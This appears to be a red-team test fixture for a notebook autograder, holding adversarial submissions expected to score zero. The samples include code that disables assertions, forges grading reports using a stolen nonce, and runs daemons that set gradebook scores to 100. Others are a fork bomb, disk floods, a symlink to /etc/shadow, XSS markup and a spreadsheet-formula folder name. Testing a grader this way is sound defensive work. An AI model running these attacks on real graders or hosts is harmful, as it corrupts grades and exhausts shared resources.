"""Submissions for ps01_tensors, honest and adversarial, built from the generated student version.

Each entry: name -> (build(release_nb) -> notebook JSON text, expected score or cap, kind).
kind "exact": the score must equal the number; "cap": the score must not exceed it (the honest score of
the code it contains). Answers are whole cell sources keyed by nbgrader grade_id.
"""

from __future__ import annotations

import copy
import json
import os

import nbformat

RIGHT = {
    "ps01_q1_answer_torch": "def torch_to_numpy(t):\n    return t.detach().numpy()",
    "ps01_q1_answer_tf": "def tf_to_numpy(t):\n    return t.numpy()",
    "ps01_q2_answer_torch": (
        "def standardize_torch(x):\n"
        "    return (x - x.mean(0)) / x.std(0, unbiased=False)"),
    "ps01_q2_answer_tf": (
        "def standardize_tf(x):\n"
        "    return (x - tf.reduce_mean(x, 0)) / tf.math.reduce_std(x, 0)"),
    "ps01_q3_answer_torch": (
        "def pairwise_sq_dists_torch(a, b):\n"
        "    return torch.cdist(a, b) ** 2"),
    "ps01_q3_answer_tf": (
        "def pairwise_sq_dists_tf(a, b):\n"
        "    return tf.reduce_sum(tf.square(a[:, None] - b[None]), -1)"),
}

# Callable but wrong everywhere: zeros of a plausible shape (an attack must not turn these into points)
WRONG = {
    "ps01_q1_answer_torch": "def torch_to_numpy(t):\n    return np.zeros(tuple(t.shape), np.float32)",
    "ps01_q1_answer_tf": "def tf_to_numpy(t):\n    return np.zeros(tuple(t.shape), np.float32)",
    "ps01_q2_answer_torch": "def standardize_torch(x):\n    return torch.zeros_like(x)",
    "ps01_q2_answer_tf": "def standardize_tf(x):\n    return tf.zeros_like(x)",
    "ps01_q3_answer_torch": (
        "def pairwise_sq_dists_torch(a, b):\n    return torch.zeros(a.shape[0], b.shape[0])"),
    "ps01_q3_answer_tf": (
        "def pairwise_sq_dists_tf(a, b):\n    return tf.zeros((a.shape[0], b.shape[0]))"),
}


def gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def fill(release, answers, after=None, before=None):
    """Copy of the release notebook with answers filled in; `after`/`before`: {grade_id: [sources]}
    extra code cells inserted after/before the cell with that grade_id ("setup": after the setup)."""
    nb = copy.deepcopy(release)
    cells = []
    for cell in nb.cells:
        g = gid(cell)
        for src in (before or {}).get(g, []):
            cells.append(nbformat.v4.new_code_cell(src))
        if g in answers:
            cell.source = answers[g]
        cells.append(cell)
        for src in (after or {}).get(g, []):
            cells.append(nbformat.v4.new_code_cell(src))
        if "env = setup()" in cell.source:
            for src in (after or {}).get("setup", []):
                cells.append(nbformat.v4.new_code_cell(src))
    nb.cells = cells
    return nbformat.writes(nb)


def mixed(**overrides):
    return RIGHT | overrides


# ---- honest -------------------------------------------------------------------------------------

PARTIAL = mixed(
    # Q1 wrong: tolist() loses the dtype (float32 becomes float64)
    ps01_q1_answer_torch="def torch_to_numpy(t):\n    return np.array(t.tolist())",
    # Q2 hard-coded for the visible example only
    ps01_q2_answer_torch=(
        "def standardize_torch(x):\n"
        "    return torch.tensor([[-1.0, -1.0], [1.0, 1.0]])"),
)

WARNINGS = """
import sys
import warnings
print("framework chatter", file=sys.stderr)
warnings.warn("a framework warning")
_original_std = standardize_tf
def standardize_tf(x):
    warnings.warn("deprecated-ish")
    print("log line on stderr", file=sys.stderr)
    return _original_std(x)
"""

# ---- adversarial --------------------------------------------------------------------------------

MONKEYPATCH = """
import numpy as np
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
import builtins
_isinstance = builtins.isinstance
builtins.AssertionError = type("Nope", (Exception,), {})
"""

TRANSFORMER = """
def _swallow(lines):
    return ["try:\\n"] + ["    " + l for l in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
"""

FIND_CHANNEL = """
import fcntl, gc, os
def _report_channel():
    # the runner's job (with this run's nonce) is in memory; its private copy of stdout is the one
    # write-only pipe among the open descriptors. setup() froze every object that existed then
    # (gc.freeze), the job included, and frozen objects are not listed: thaw them first.
    gc.unfreeze()
    job = next(o for o in gc.get_objects() if isinstance(o, dict) and "nonce" in o and "steps" in o)
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            pipe = os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:")
            if pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return job["nonce"], fd
        except OSError:
            pass
    raise RuntimeError("no report channel found")
"""

FAKE_OUTPUT = FIND_CHANNEL + """
import json, os, sys
ids = ["ps01_q1_tests", "ps01_q2_tests", "ps01_q3_tests"]
for g in ids:
    print("✔ passed", g)
    print("@@" + "0" * 32 + " " + json.dumps({"kind": "probe", "grade_id": g, "result": {}}))
    os.write(1, (json.dumps({"kind": "probe", "grade_id": g, "result": True}) + "\\n").encode())
# find the runner's nonce and its private stdout, and forge reports with them
nonce, fd = _report_channel()
for g in ids:
    fake = {"kind": "probe", "grade_id": g, "result": {"torch": [[0.0]], "tf": [[0.0]]},
            "error": None}
    os.write(fd, ("@@" + nonce + " " + json.dumps(fake) + "\\n").encode())
print("forged with the real nonce")
json.dumps = lambda *a, **k: '{"kind": "done"}'
"""

SNOOP = '''
def torch_to_numpy(t):
    return np.zeros(tuple(t.shape), np.float32)
import glob, os
# places that exist on the grading machine: the course, its gradebook, the tests' temporary course
candidates = ["/work/main/graded", "/work/main/graded/gradebook.db", "/work/main/graded/source",
              "/work/main/graded/checks", "/work/main/tests", "/work/shared", "/root/.ssh"]
candidates += glob.glob("/tmp/pytest-of-*") + glob.glob("/tmp/*/gradebook.db")
candidates += glob.glob("/tmp/*/*/gradebook.db") + glob.glob("/*/gradebook.db")
candidates += glob.glob("/submission/../submitted") + glob.glob("/work/main/*/gradebook.db")
found = [p for p in candidates if os.path.exists(p)]
print("visible files:", sorted(found)[:20])
writable = []
for d in ["/work", "/work/main", "/work/main/widgets/sidebyside", "/usr", "/root", "/"]:
    try:
        open(os.path.join(d, "pwned.txt"), "w").write("x")
        writable.append(d)
    except OSError:
        pass
print("writable:", writable)
import socket
interfaces = [name for _, name in socket.if_nameindex() if name != "lo"]  # only loopback: no network
print("network:", "yes" if interfaces else "no", interfaces)
print("uid:", os.getuid())
'''

EDITED_TESTS = """
### BEGIN HIDDEN TESTS
assert True
### END HIDDEN TESTS
print("all tests passed")
"""

LOOP = "while True:\n    pass"
STUBBORN_LOOP = """
import time
while True:
    try:
        time.sleep(0.5)
    except BaseException:
        pass
"""
EXIT = "import os\nos._exit(0)"
MEMORY = """
import numpy as np
try:
    big = bytearray(64 * 2**30)
except MemoryError:
    print("refused at once")
def bomb():
    hog = []
    while True:
        hog.append(np.ones(10**8))
try:
    bomb()
except MemoryError:
    print("memory limit reached")
"""
BACKGROUND = r'''
import os, subprocess, sys, time
code = """
import glob, os, sqlite3, time
for i in range(600):
    for db in glob.glob('/**/gradebook.db', recursive=True):
        con = sqlite3.connect(db)
        con.execute("update grade set auto_score = 100")
        con.commit()
    open('/submission/still_alive.txt', 'a').write(str(i))
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", code], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    exec(code)
print("daemons started")
'''


# Found by red-teaming: a lone surrogate in an output used to crash the batch when it was stored.
SURROGATE = "print('\\udcff')  # a lone surrogate: not encodable as UTF-8"
MARKUP_KERNEL = "<img src=x onerror=alert(1)><script>alert('xss')</script>"


# Found by the issue-12 red team: report lines the grader could not parse ("internal grading error")
HUGE_INT_REPORT = FIND_CHANNEL + """
nonce, fd = _report_channel()
for line in ['{"kind": "cell", "index": ' + "9" * 5000 + '}',
             '{"kind": "probe", "grade_id": ["a list"], "result": 1}',
             '{"kind": "cell", "index": 3, "error": "not a dict"}',
             '[' * 100000 + ']' * 100000]:
    os.write(fd, ("@@" + nonce + " " + line + "\\n").encode())
print("forged")
"""

# Past the report channel's 32 MiB cap, through the runner's own stdout copy
FLOOD_REPORTS = FIND_CHANNEL + """
nonce, fd = _report_channel()
block = b"x" * (1 << 20) + b"\\n"
for _ in range(48):
    os.write(fd, block)
"""


def hidden_line_answer(line: str) -> str:
    """An honest answer that happens to contain a line of the hidden tests (a guess, or a copy)."""
    return RIGHT["ps01_q1_answer_torch"] + f"\n# {line}\n{line.split('(')[0].strip()} = None  # noqa"


def with_kernel(text: str, name: str) -> str:
    nb = json.loads(text)
    nb["metadata"]["kernelspec"] = {"name": name, "display_name": name, "language": "python"}
    return json.dumps(nb)


def invalid_json(release):
    return '{"cells": [ this is not json'


def build(release) -> dict[str, tuple[str, float, str]]:
    """All submissions: name -> (notebook text, expected, "exact"|"cap")."""
    q1_test, q2_test, q3_test = "ps01_q1_tests", "ps01_q2_tests", "ps01_q3_tests"
    restructured = json.loads(fill(release, RIGHT))
    cells = []
    for cell in restructured["cells"]:
        g = gid(cell)
        if g == q1_test:
            continue  # deleted test cell
        if g == q2_test:
            cells.append(copy.deepcopy(cell))  # duplicated test cell
        if g == q3_test:
            cell["source"] = "assert True  # edited test"
        cells.append(cell)
    restructured["cells"] = cells
    restructured["metadata"]["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    no_answer = json.loads(fill(release, RIGHT))
    no_answer["cells"] = [c for c in no_answer["cells"] if gid(c) != "ps01_q2_answer_tf"]
    edited = json.loads(fill(release, WRONG))
    for cell in edited["cells"]:
        if gid(cell) in (q1_test, q2_test, q3_test):
            cell["source"] = EDITED_TESTS
    return {
        "honest_correct": (fill(release, RIGHT), 7, "exact"),
        "honest_blank": (nbformat.writes(release), 0, "exact"),
        "honest_partial": (fill(release, PARTIAL), 2, "exact"),
        "honest_warnings": (fill(release, RIGHT, after={"ps01_q2_answer_tf": [WARNINGS]}), 7,
                            "exact"),
        "broken_restructured": (json.dumps(restructured), 7, "exact"),
        "broken_missing_answer": (json.dumps(no_answer), 4, "exact"),
        "broken_invalid_json": (invalid_json(release), 0, "exact"),
        "attack_monkeypatch": (fill(release, WRONG, after={"setup": [MONKEYPATCH]}), 0, "cap"),
        "attack_transformer": (fill(release, WRONG, after={"setup": [TRANSFORMER]}), 0, "cap"),
        "attack_fake_output": (fill(release, WRONG, after={"setup": [FAKE_OUTPUT]}), 0, "cap"),
        "attack_snoop": (fill(release, WRONG | {"ps01_q1_answer_torch": SNOOP}), 0, "cap"),
        "attack_edited_tests": (json.dumps(edited), 0, "cap"),
        "attack_background": (fill(release, WRONG, after={"setup": [BACKGROUND]}), 0, "cap"),
        "limit_loop": (fill(release, RIGHT, after={"ps01_q1_tests": [LOOP]}), 7, "exact"),
        "limit_stubborn_loop": (fill(release, RIGHT, after={"ps01_q1_tests": [STUBBORN_LOOP]}), 2,
                                "exact"),
        "limit_os_exit": (fill(release, RIGHT, after={"ps01_q2_tests": [EXIT]}), 5, "exact"),
        "limit_memory_bomb": (fill(release, RIGHT, after={"ps01_q1_tests": [MEMORY]}), 7, "exact"),
        "hostile_surrogate": (fill(release, RIGHT | {"ps01_q1_answer_torch": (
            RIGHT["ps01_q1_answer_torch"] + "\n" + SURROGATE)}), 7, "exact"),
        "hostile_markup": (with_kernel(fill(release, RIGHT), MARKUP_KERNEL), 7, "exact"),
        # issue 12, items 3-5 and 9: unparseable report lines, fields of the wrong type and a 1 MB
        # timestamp; a flooded report channel; a FIFO, links and a linked timestamp in the folder.
        # The tests that ran keep their points and every reason is named.
        "hostile_malformed": (odd_fields(fill(release, RIGHT, after={"setup": [HUGE_INT_REPORT]})),
                              7, "exact"),
        "hostile_report_flood": (fill(release, RIGHT, after={"ps01_q1_tests": [FLOOD_REPORTS]}), 2,
                                 "exact"),
        "hostile_folder": (fill(release, RIGHT), 7, "exact"),
        "hostile_too_many_files": (fill(release, RIGHT), 0, "exact"),
        "hostile_notebook_fifo": ("", 0, "exact"),
        "broken_huge_int_json": ('{"nbformat": ' + "9" * 5000 + "}", 0, "exact"),
        "broken_deep_json": ("[" * 100000 + "]" * 100000, 0, "exact"),
        "broken_not_utf8": (fill(release, RIGHT).replace("torch_to_numpy", "torch_to_n\udcffumpy"),
                            0, "exact"),
    }


def odd_fields(text: str) -> str:
    """Valid JSON with fields of the wrong type: a source as a list of numbers in a markdown cell, a
    grade_id that is a list (unhashable), metadata that is a string."""
    nb = json.loads(text)
    nb["cells"][0]["source"] = [1, 2, 3]
    nb["cells"].append({"cell_type": "code", "metadata": {"nbgrader": {"grade_id": ["x"]}},
                        "source": "pass", "outputs": [], "execution_count": None})
    nb["cells"].append({"cell_type": "markdown", "metadata": "not a dict", "source": "hi"})
    return json.dumps(nb)


def _huge_timestamp(folder):
    (folder / "timestamp.txt").write_text("2026-11-20 12:00:00" + " " * 2**20 + "UTC")


def _links_and_fifo(folder):
    (folder / "timestamp.txt").unlink()
    (folder / "timestamp.txt").symlink_to("/usr/share/zoneinfo/Asia/Tokyo")
    (folder / "shadow").symlink_to("/etc/shadow")
    os.mkfifo(folder / "pipe")


def _too_many_files(folder, count=20_001):
    data = folder / "data"
    data.mkdir()
    for i in range(count):
        (data / f"{i}.txt").touch()


def _notebook_fifo(folder):
    (folder / "ps01_tensors.ipynb").unlink()
    os.mkfifo(folder / "ps01_tensors.ipynb")


# name -> what is done to the submitted folder after the notebook and timestamp.txt are written
FOLDERS = {
    "hostile_malformed": _huge_timestamp,
    "hostile_folder": _links_and_fifo,
    "hostile_too_many_files": _too_many_files,
    "hostile_notebook_fifo": _notebook_fifo,
}

# folder names that cannot be student ids (item 6, 8): never graded, reported with the reason
BAD_IDS = ["new\nline", "=HYPERLINK(\"evil.invalid\",\"x\")", "\x1b[31mred\x1b[0m",
           "@SUM(1+1)", "star*"]


# ---- issue 12: attacks graded at the same time as honest neighbours ----------------------------
# Each prints one line of wall-clock stamps (time.time() is the host's clock in every sandbox), so
# the test can prove that the honest work happened while the attacks held their resources.

FORK_BOMB = """
import os, time
RELEASE = {release!r}
forked, refused = 0, None
try:
    while True:
        if os.fork() == 0:  # every child holds its process slot until the release time
            try:
                time.sleep(max(0.0, RELEASE - time.time()))
            finally:
                os._exit(0)
        forked += 1
except OSError as err:
    refused = type(err).__name__
full = time.time()
time.sleep(max(0.0, RELEASE - time.time()))
release = time.time()
try:
    while True:
        os.wait()
except ChildProcessError:
    pass
print(f"ATTACK bomb forked={{forked}} refused={{refused}} full={{full:.3f}} release={{release:.3f}}")
"""

FILE_FLOOD = """
import os, time
RELEASE = {release!r}
written, part, bytes_error = 0, 0, None
try:
    while True:  # 60 MiB files (each file is capped at 64 MiB) until the disk is full
        with open(f"/tmp/big{{part}}", "wb") as f:
            for _ in range(60):
                f.write(bytes(2**20))
                written += 2**20
        part += 1
except OSError as err:
    bytes_error = err.strerror
files, files_error = 0, None
try:
    os.mkdir("flood")
    while True:
        open(f"flood/{{files}}", "w").close()
        files += 1
except OSError as err:
    files_error = err.strerror
try:
    open("/dev/shm/flood", "w")
    shm = "writable"
except OSError:
    shm = "refused"
full = time.time()
time.sleep(max(0.0, RELEASE - time.time()))
print(f"ATTACK flood bytes={{written}} ({{bytes_error}}) files={{files}} ({{files_error}}) "
      f"shm={{shm}} full={{full:.3f}} release={{time.time():.3f}}")
"""

HONEST_SLEEPER = """
import subprocess, sys, threading, time
time.sleep(max(0.0, {wake!r} - time.time()))  # until the attacks are under way
woke = time.time()
workers = [threading.Thread(target=time.sleep, args=(0.2,)) for _ in range(32)]
for w in workers:
    w.start()
for w in workers:
    w.join()
child = subprocess.run([sys.executable, "-c", "print(6 * 7)"], capture_output=True, text=True)
print(f"HONEST woke={{woke:.3f}} threads={{len(workers)}} child={{child.stdout.strip()}}")
"""


def without_setup(text: str) -> str:
    """A student may delete the setup and import cells: the attack then starts the moment the
    kernel does, from a small process (forking one with both frameworks loaded takes ~0.1 s per
    child: the bomb would still be forking when its neighbours are done)."""
    nb = json.loads(text)
    nb["cells"] = [c for c in nb["cells"] if not any(
        marker in "".join(c["source"]) for marker in ("env = setup()", "import tensorflow"))]
    return json.dumps(nb)


def concurrent_batch(release_nb, wake: float, release: float) -> dict[str, str]:
    """A fork bomb, a file flood and two honest submissions that start working at `wake`, while
    both attacks hold what they took until `release`."""
    q1 = "ps01_q1_answer_torch"
    honest = fill(release_nb, RIGHT | {q1: RIGHT[q1] + "\n" + HONEST_SLEEPER.format(wake=wake)})
    return {
        "attack_fork_bomb": without_setup(fill(release_nb, RIGHT | {
            q1: RIGHT[q1] + "\n" + FORK_BOMB.format(release=release)})),
        "attack_file_flood": without_setup(fill(release_nb, RIGHT | {
            q1: RIGHT[q1] + "\n" + FILE_FLOOD.format(release=release)})),
        "honest_neighbour_1": honest,
        "honest_neighbour_2": honest,
    }
